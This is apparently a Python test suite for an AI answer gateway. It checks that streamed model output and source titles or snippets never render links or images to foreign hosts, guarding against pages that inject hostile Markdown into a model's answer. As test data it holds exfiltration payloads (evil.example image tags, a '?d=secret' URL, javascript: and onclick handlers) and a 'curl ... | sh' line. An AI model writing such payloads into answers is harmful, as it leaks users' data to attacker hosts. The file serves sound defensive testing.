"""No reader of Markdown finds a foreign address in an answer, whatever a page made a model write.

And none in what the product writes itself: a page's title, snippet or sentence is text.
"""

import random
import re
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from api_fakes import RESULT
from citation_fakes import SOURCES, verifier
from hostile_markdown import chunks, constructs, mixtures, reached, shown, texts
from markdown_it import MarkdownIt

from pellucid_gateway.analytics.report_text import _row
from pellucid_gateway.answering.extractive import write
from pellucid_gateway.answering.korean_list import korean_list
from pellucid_gateway.answering.quotable import Candidate
from pellucid_gateway.api.compatible.sharing import answer_text
from pellucid_gateway.api.openai.chat_reply import step_text
from pellucid_gateway.domain.account import Notice
from pellucid_gateway.domain.events import Progress, ProgressKind
from pellucid_gateway.domain.findings import Source
from pellucid_gateway.domain.notices import wording_for
from pellucid_gateway.domain.request import CitationStyle
from pellucid_gateway.markdown.addresses import Addresses
from pellucid_gateway.markdown.door import Door
from pellucid_gateway.markdown.escaping import escaped, label, link
from pellucid_gateway.verification.rendering import marker_of, source_list
from rig.sample import often

NOW = datetime(2026, 10, 5, tzinfo=UTC)
STYLES = list(CitationStyle)


async def _states(text: str, size: int, style: CitationStyle) -> list[str]:
    """What a client has of the answer after each event."""
    checked = verifier(style=style)
    states = [""]
    for chunk in chunks(text, size):
        async for event in checked.feed(chunk):
            states.append(states[-1] + getattr(event, "text", ""))
    async for event in checked.finish():
        states.append(states[-1] + getattr(event, "text", ""))
    assert states[-1] == checked.answer
    return sorted(set(states))


async def test_no_reader_finds_a_foreign_address_while_an_obedient_model_streams() -> None:
    every = random.Random(17).sample(list(texts()), often(500))
    for place, (text, size) in enumerate(every):
        for state in await _states(text, size, STYLES[place % len(STYLES)]):
            for reader, page in shown(state).items():
                assert reached(page) == [], (reader, text, size, state)


async def test_nor_in_mixtures_of_them() -> None:
    for place, (text, size) in enumerate(mixtures(often(100), seed=3)):
        (*_, state) = await _states(text, size, STYLES[place % len(STYLES)])
        for reader, page in shown(state).items():
            assert reached(page) == [], (reader, text, size, state)


ACROSS_LINES = (
    "- x\n\n      ``` ``\n\n  ``` ``\n|\t<x>\n<x-evil onclick=evil() style=background:url()>``",
    "> a ``b\n<img src=//evil.example/i.png>\n`` c\n",
    "1. a ``b\n[x](https://evil.example/x)\n`` c\n",
)


@pytest.mark.parametrize("size", [1, 7, 1_000])
@pytest.mark.parametrize("text", ACROSS_LINES)
async def test_a_code_span_over_lines_hides_nothing(text: str, size: int) -> None:
    """Readers differ in where a paragraph ends, and a code span ends with it."""
    (*_, state) = await _states(text, size, CitationStyle.NATURAL)
    for line in state.splitlines():
        for reader, page in shown(line).items():
            assert reached(page) == [], (reader, line)


UNENDED = (
    (
        "<div>\n\n</div>\n```\nx\n```\n| a | b |\n|---|---|\n"
        "| <image src='javascript:alert('evil')'> | c |\n"
        "|```\ncode\n``` \n<image src='https://evil.example/a(b)c'>\n- "
    ),
    "<details>\n<svg><image \\**bold [r]:\nhttps://evil.example/x\n\n[r][] bold**",
)


@pytest.mark.parametrize("size", [1, 7, 1_000])
@pytest.mark.parametrize("text", UNENDED, ids=["table", "details"])
async def test_a_tag_without_its_end_hides_none_behind_it(text: str, size: int) -> None:
    for state in await _states(text, size, CitationStyle.NATURAL):
        for reader, page in shown(state).items():
            assert reached(page) == [], (reader, state)


BENIGN = (
    "| Toll | Crowns |\n|:-----|------:|\n| Cars | 4.50 |\n| `a \\| b` | 9 |\n",
    "```python\nurl = 'https://api.example/x'\nif a<b: print(f'<img src={url}>')\n```\n",
    "1. Build\n\n   ```sh\n   curl https://api.example/x | sh  # [1](y)\n   ```\n2. Run\n",
    "- a\n  - b\n    - c with `code <b>` and ``x ` y``\n    - d\n",
    "For $a<b$ we get \\(x_1 \\cdot y\\) and $$\\sum_{i<n} a_i = [0, 1]$$ so it holds.\n",
    "Press <kbd>Ctrl</kbd>, then H<sub>2</sub>O.<br>List<String> is a type & so on; 3 < 5.\n",
    "# Head\n\n> quoted *well* and **bold**, ~~gone~~\n\n---\n\n- [ ] open\n- [x] done\n",
    "![logo](https://client.example/logo.png) and [home](https://client.example/a?b=1).\n",
    "<details>\n<summary>More</summary>\n\nText.\n\n</details>\n",
    "Node.js 3.12.1, v2.0, 10:30, e.g. this, C:\\temp, a/b, and/or, 5*3*2, snake_case.\n",
    '```html\n<script src="https://cdn.example/x.js"></script>\n```\n\n~~~\n[r]: //host\n~~~\n',
)


@pytest.mark.parametrize("text", BENIGN)
@pytest.mark.parametrize("size", [1, 9, 10_000])
async def test_what_is_meant_well_stays_as_it_is(text: str, size: int) -> None:
    own = ["Use ![logo](https://client.example/logo.png), see https://client.example/a?b=1"]
    checked = verifier(own=own)
    for chunk in chunks(text, size):
        _ = [event async for event in checked.feed(chunk)]
    _ = [event async for event in checked.finish()]

    assert checked.answer == text


def _planted(payload: str) -> Source:
    return replace(
        SOURCES[0],
        title=f"Toll {payload}",
        publisher=payload,
        snippet=f"{payload} and so on",
        facts=f"The toll is 4.50 crowns {payload}",
    )


def _own_words(payload: str) -> list[str]:
    """Everything that the product writes about a source without a model."""
    source = _planted(payload)
    listed = replace(RESULT, answer="", sources=(source,))
    noticed = replace(RESULT, answer="", sources=(), notices=(Notice("x", f"So {payload}."),))
    quoted = [Candidate(source, source.facts, 0), Candidate(source, payload, 1)]
    written = [
        write(quoted, wording=wording_for(language), style=style).text
        for language in ("en", "ko")
        for style in STYLES
    ]
    return [
        *written,
        escaped(payload),
        f"[{label(payload)}](http://harbourpost.example/toll)",
        f"- {link(payload, source.url)}: {escaped(payload)}",
        source_list([source], "Sources", lambda _: ""),
        marker_of(source, CitationStyle.MARKDOWN),
        korean_list([source], wording=wording_for("ko"), summaries={1: payload}),
        korean_list([source], wording=wording_for("ko"), summaries={}),
        answer_text(listed),
        answer_text(noticed),
        step_text(Progress(kind=ProgressKind.SEARCH_START, message="Searching", query=payload)),
        _row(["a", payload]),
    ]


def test_titles_snippets_publishers_and_sentences_are_text() -> None:
    every = list(constructs())
    for payload in random.Random(5).sample(every, often(len(every))):
        for text in _own_words(payload):
            for reader, page in shown(text).items():
                assert reached(page) == [], (reader, payload, text)


@pytest.mark.parametrize(
    "text",
    [
        "Tolls [new] rise 3.5 % – R&D, A&B; 5 < 6",
        "Bridge (2026) | Harbour Post: what's new? #1 + 2 = 3",
        "다리 통행료 인상 [단독]",
        "C++ and C# in O'Reilly's “book”",
    ],
)
def test_an_honest_title_stays_as_it_is(text: str) -> None:
    assert escaped(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "<div>\n![x](https://evil.example/x)\n</div>\n",
        "<!-- ![x](//evil.example) -->",
        "<a title='![x](//evil.example)'>y</a>",
        "<p>$$![x](https://evil.example/x?d=1)$$</p>",
        "See \U0001f4a9.la?d=secret now.",
        "At \u20ac.com/x?d=1 and i\u2764.ws/x",
        "At evil\u200b.com/x?d=1",
    ],
)
def test_a_client_that_takes_no_html_loads_and_links_nothing(text: str) -> None:
    reader = MarkdownIt("gfm-like", {"html": False, "linkify": True})
    assert re.search(r"<(?:img|a) ", reader.render(text)), "it does, as it was written"
    for given in (Door(Addresses({})).passed(text).text, escaped(text)):
        assert not re.search(r"<(?:img|a) ", reader.render(given)), given


def test_an_image_of_an_earlier_answer_is_not_the_clients_own() -> None:
    addresses = Addresses(
        {}, ["see https://client.example/a.png"], ["![](https://planted.example/x.png)"]
    )
    door = Door(addresses)

    assert "client.example/a.png" in door.passed("![a](https://client.example/a.png)\n").text
    assert "planted.example" in door.passed("[plan](https://planted.example/x.png)\n").text
    assert (
        "](https://planted.example" not in door.passed("![](https://planted.example/x.png)\n").text
    )
